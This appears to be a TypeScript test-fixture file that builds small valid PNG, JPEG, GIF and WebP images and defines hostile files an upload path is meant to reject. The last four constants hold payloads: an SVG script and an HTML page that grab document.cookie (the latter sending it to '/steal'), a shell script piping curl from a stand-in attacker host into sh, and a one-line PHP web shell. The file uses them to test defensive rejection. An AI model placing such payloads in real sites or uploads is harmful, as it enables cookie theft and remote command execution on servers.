// Small, structurally complete images built in code, and the hostile look-alikes the upload
// path must refuse. Shared by the storage unit specs and the upload e2e tests.
import { crc32, deflateSync } from 'node:zlib';

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** A valid RGB PNG of `width` x `height` pixels (solid colour). */
export function pngImage(width = 2, height = 2): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, 0x7f)]);
  const raw = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function segment(marker: number, body: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

/**
 * A valid 8x8 grey baseline JPEG (one block, DC 0, EOB; one-code Huffman tables). With
 * `exif: true` it starts with an APP1 Exif segment the way phone cameras write them, and
 * `padding` adds that many bytes inside a COM segment to reach a wanted size.
 */
export function jpegImage(options: { exif?: boolean; padding?: number } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];
  if (options.exif) {
    parts.push(segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), Buffer.from('MM\0*\0\0\0\x08\0\0\0\0\0\0', 'latin1')])));
  } else {
    parts.push(segment(0xe0, Buffer.from([0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0])));
  }
  let padding = options.padding ?? 0;
  while (padding > 0) {
    const n = Math.min(padding, 65533);
    parts.push(segment(0xfe, Buffer.alloc(n, 0x20)));
    padding -= n;
  }
  parts.push(segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])));
  parts.push(segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0])));
  const oneCode = Buffer.concat([Buffer.from([1]), Buffer.alloc(15, 0), Buffer.from([0])]);
  parts.push(segment(0xc4, Buffer.concat([Buffer.from([0x00]), oneCode])));
  parts.push(segment(0xc4, Buffer.concat([Buffer.from([0x10]), oneCode])));
  parts.push(segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])));
  parts.push(Buffer.from([0x3f, 0xff, 0xd9]));
  return Buffer.concat(parts);
}

/** The classic 1x1 transparent GIF89a (43 bytes). */
export function gifImage(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
}

/** A 1x1 lossless WebP (34 bytes). */
export function webpImage(): Buffer {
  return Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
}

export const SVG_IMAGE = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script>alert(document.cookie)</script></svg>\n',
);
export const HTML_PAGE = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/steal?c="+document.cookie)</script></body></html>\n');
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.invalid/x | sh\n');
export const PHP_SCRIPT = Buffer.from('<?php system($_GET["cmd"]); ?>\n');
